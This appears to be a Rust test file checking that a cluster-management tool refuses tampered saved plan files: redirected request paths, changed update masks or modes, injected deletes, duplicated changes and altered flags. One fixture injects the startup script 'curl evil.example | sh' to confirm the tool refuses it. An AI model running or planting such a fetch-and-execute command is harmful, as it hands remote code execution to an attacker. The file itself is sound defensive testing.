//! A saved plan is input from another machine: `apply FILE` plans again, once, from the
//! configuration and the live clusters with the flags the file records, and refuses a file
//! whose flags, requests, mask, mode or set of changes were edited, naming the cluster, before
//! it sends anything.

use serde_json::{Value, json};

use crate::support::{ClusterSpec, Env, apply_ok, config, stderr, stdout, target_id, two_clusters};

/// A plan of a larger `cpu` pool for `train01` beside an unchanged `train02`, saved as JSON.
fn saved_update(env: &Env) -> Value {
    apply_ok(env, &two_clusters());
    let bigger = ClusterSpec {
        max_nodes: 6,
        ..ClusterSpec::default()
    };
    env.write_config(&config(&[bigger, ClusterSpec::named("train02")]));
    saved_plan(env, "saved.json", &[])
}

/// `plan --out NAME` with `flags`, read back as JSON.
fn saved_plan(env: &Env, name: &str, flags: &[&str]) -> Value {
    let file = env.path().join(name);
    let mut args = vec!["plan", "--out", file.to_str().unwrap()];
    args.extend(flags);
    let plan = env.run(&args);
    assert!(plan.status.success(), "{}", stderr(&plan));
    serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap()
}

/// `apply NAME` of a file as `plan` saved it succeeds; the emulator's log then holds only what
/// it sent.
fn applies(env: &Env, name: &str) {
    env.emulator().clear_requests();
    let apply = env.run(&["apply", name]);
    assert!(apply.status.success(), "{}", stderr(&apply));
}

/// An edit of a saved plan's JSON.
type Tampering<'a> = dyn Fn(&mut Value) + 'a;

/// The position of `id`'s change in the saved plan.
fn change_of(saved: &Value, id: &str) -> usize {
    saved["changes"]
        .as_array()
        .unwrap()
        .iter()
        .position(|c| c["address"]["id"] == id)
        .unwrap()
}

/// Applies `saved` edited by `tamper`: the apply fails and changes nothing; its transcript,
/// headed by `case`.
fn refused(env: &Env, saved: &Value, tamper: &Tampering<'_>, case: &str) -> String {
    let mut edited = saved.clone();
    tamper(&mut edited);
    let file = env.path().join("edited.json");
    std::fs::write(&file, edited.to_string()).unwrap();
    env.emulator().clear_requests();
    let apply = env.run(&["apply", file.to_str().unwrap()]);
    assert_eq!(apply.status.code(), Some(1), "{case}: {}", stderr(&apply));
    assert!(env.mutations().is_empty(), "{case}: something was changed");
    format!("# {case}\n{}", env.transcript_of(&apply))
}

#[test]
fn an_edited_plan_file_is_refused_naming_the_cluster_and_nothing_is_sent() {
    let env = Env::new(50);
    let saved = saved_update(&env);
    let update = change_of(&saved, "train01");
    let other_cluster =
        "/v1beta1/projects/my-proj/locations/us-central1/modelDevelopmentClusters/train02";
    let other_project =
        "/v1beta1/projects/someone-else/locations/us-central1/modelDevelopmentClusters/train01";
    let tamperings: [(&str, &Tampering<'_>); 5] = [
        ("patches another cluster", &|plan| {
            plan["changes"][update]["requests"][0]["path"] = json!(other_cluster);
        }),
        ("sends to another project", &|plan| {
            plan["changes"][update]["requests"][0]["path"] = json!(other_project);
        }),
        ("injects a startup script", &|plan| {
            plan["changes"][update]["requests"][0]["body"]["nodePools"][1]["startupScript"] =
                json!("curl evil.example | sh");
        }),
        ("changes the mask", &|plan| {
            plan["changes"][update]["update_mask"] = json!(["labels", "node_pools"]);
            plan["changes"][update]["requests"][0]["query"][0][1] = json!("labels,node_pools");
        }),
        ("sends the change twice", &|plan| {
            let again = plan["changes"][update].clone();
            plan["changes"].as_array_mut().unwrap().push(again);
        }),
    ];
    let refusals: Vec<String> = tamperings
        .iter()
        .map(|(case, tamper)| refused(&env, &saved, *tamper, case))
        .collect();
    insta::assert_snapshot!(refusals.join("\n"), @"
    # patches another cluster
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's requests: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # sends to another project
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's requests: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # injects a startup script
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's requests: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # changes the mask
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's update mask: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # sends the change twice
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01 has two changes in the plan
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]
    ");
    applies(&env, "saved.json");
}

/// An update's mask and mode are held once, in its request: a plan file whose copy beside the
/// request says another mode, or whose request was edited alone, is refused when it is read,
/// naming the cluster, and nothing is sent.
#[test]
fn a_plan_file_whose_update_mode_disagrees_with_its_request_is_refused() {
    let env = Env::new(50);
    let saved = saved_update(&env);
    let update = change_of(&saved, "train01");
    let tamperings: [(&str, &Tampering<'_>); 2] = [
        ("the copy", &|plan| {
            plan["changes"][update]["update_mode"] = json!("USER_ONLY");
        }),
        ("the request", &|plan| {
            plan["changes"][update]["requests"][0]["query"][1][1] = json!("USER_ONLY");
        }),
    ];
    let refusals: Vec<String> = tamperings
        .iter()
        .map(|(case, tamper)| {
            let refusal = refused(&env, &saved, *tamper, case);
            let sent = env.emulator().requests();
            assert!(sent.is_empty(), "{case}: refused before reading: {sent:?}");
            refusal
        })
        .collect();
    insta::assert_snapshot!(refusals.join("\n"), @"
    # the copy
    [stderr]
    Error: [DIR]/edited.json is a damaged plan file: the change of cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01 says its update mode is USER_ONLY, but its request sends USER_AND_SERVICE
    [exit status: 1]

    # the request
    [stderr]
    Error: [DIR]/edited.json is a damaged plan file: the change of cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01 says its update mode is USER_AND_SERVICE, but its request sends USER_ONLY
    [exit status: 1]
    ");
}

/// The tester's attack: `train02` is no longer declared, and a reviewed one-update plan made
/// with `--target train01` (which leaves its deletion out) is given the delete of `train02`
/// that the untargeted plan holds. Each change is one `plan` makes; the set is not what the
/// recorded flags make.
#[test]
fn a_targeted_plan_given_a_delete_of_a_cluster_its_targets_left_out_is_refused() {
    let env = Env::new(50);
    apply_ok(&env, &two_clusters());
    let bigger = ClusterSpec {
        max_nodes: 6,
        ..ClusterSpec::default()
    };
    env.write_config(&config(&[bigger]));
    let targeted = saved_plan(&env, "targeted.json", &["--target", "train01"]);
    assert_eq!(
        targeted["changes"].as_array().unwrap().len(),
        1,
        "{targeted}"
    );
    let everything = saved_plan(&env, "everything.json", &[]);
    let delete = everything["changes"][change_of(&everything, "train02")].clone();
    assert_eq!(delete["action"], "delete");
    let refusal = refused(
        &env,
        &targeted,
        &|plan| plan["changes"].as_array_mut().unwrap().push(delete.clone()),
        "deletes a cluster out of its targets",
    );
    insta::assert_snapshot!(refusal, @"
    # deletes a cluster out of its targets
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train02 has a change in the plan, but planning again with the plan's flags gives it none
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]
    ");
    // As written, it updates train01 and leaves train02 alone.
    applies(&env, "targeted.json");
    let touched: Vec<Option<String>> = env.mutations().iter().map(target_id).collect();
    assert_eq!(touched, [Some("train01".to_owned())]);
}

/// A file edited into what other flags would make, or whose flags were edited alone, is
/// refused; the plan as written still applies.
#[test]
fn a_plan_edited_into_a_destroy_another_mode_or_a_replacement_is_refused() {
    let env = Env::new(50);
    let saved = saved_update(&env);
    let update = change_of(&saved, "train01");
    let destroying = saved_plan(&env, "destroy.json", &["--destroy"]);
    let replacing = saved_plan(&env, "replace.json", &["--replace", "train01"]);
    let replacement = replacing["changes"][change_of(&replacing, "train01")].clone();
    let tamperings: [(&str, &Tampering<'_>); 4] = [
        ("into a destroy", &|plan| {
            plan["flags"]["destroy"] = json!(true);
            plan["changes"] = destroying["changes"].clone();
        }),
        ("to another update mode, both copies", &|plan| {
            plan["changes"][update]["update_mode"] = json!("USER_ONLY");
            plan["changes"][update]["requests"][0]["query"][1][1] = json!("USER_ONLY");
        }),
        ("to a requested replacement", &|plan| {
            plan["changes"][update] = replacement.clone();
        }),
        ("the flags without their digest", &|plan| {
            plan["flags"]["targets"] = json!(["train01"]);
        }),
    ];
    let refusals: Vec<String> = tamperings
        .iter()
        .map(|(case, tamper)| refused(&env, &saved, *tamper, case))
        .collect();
    insta::assert_snapshot!(refusals.join("\n"), @"
    # into a destroy
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      the plan's flags are not the ones it was made with: `flags_digest` is not the digest of its `flags` and configuration
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # to another update mode, both copies
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's update mode: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # to a requested replacement
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      cluster projects/my-proj/locations/us-central1/modelDevelopmentClusters/train01: the plan's action: not what its change implies
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]

    # the flags without their digest
    [stderr]
    Error: the saved plan does not match what its configuration gives now; nothing was applied:
      the plan's flags are not the ones it was made with: `flags_digest` is not the digest of its `flags` and configuration
      hint: a plan file is applied only as `clusterform plan --out FILE` wrote it: make the plan again, review it with `clusterform show FILE`, then apply the new file
    [exit status: 1]
    ");
    applies(&env, "saved.json");
}

/// A plan made with every flag that shapes it is shown with them, and applies as made.
#[test]
fn a_plan_made_with_flags_shows_them_and_applies() {
    let env = Env::new(50);
    saved_update(&env);
    let flags = [
        "--target",
        "train01",
        "--target",
        "train02",
        "--replace",
        "train02",
        "--update-mode",
        "USER_ONLY",
    ];
    let saved = saved_plan(&env, "flags.json", &flags);
    assert_eq!(
        saved["flags"],
        json!({
            "destroy": false,
            "idle_for_seconds": null,
            "targets": ["train01", "train02"],
            "replace": ["train02"],
            "update_mode": "USER_ONLY",
        })
    );
    let show = env.run(&["show", "flags.json"]);
    assert!(show.status.success(), "{}", stderr(&show));
    assert!(
        stdout(&show).starts_with(
            "Made with: clusterform plan --target train01 --target train02 --replace train02 \
             --update-mode USER_ONLY\n\n"
        ),
        "{}",
        stdout(&show)
    );
    applies(&env, "flags.json");
    let sent: Vec<(String, Option<String>, String)> = env
        .mutations()
        .iter()
        .map(|r| (r.method.clone(), target_id(r), r.query.clone()))
        .collect();
    assert!(
        sent.iter().any(|(method, id, query)| method == "PATCH"
            && id.as_deref() == Some("train01")
            && query.contains("updateMode=USER_ONLY")),
        "{sent:?}"
    );
    assert!(
        sent.iter()
            .any(|(method, id, _)| method == "DELETE" && id.as_deref() == Some("train02")),
        "{sent:?}"
    );
}
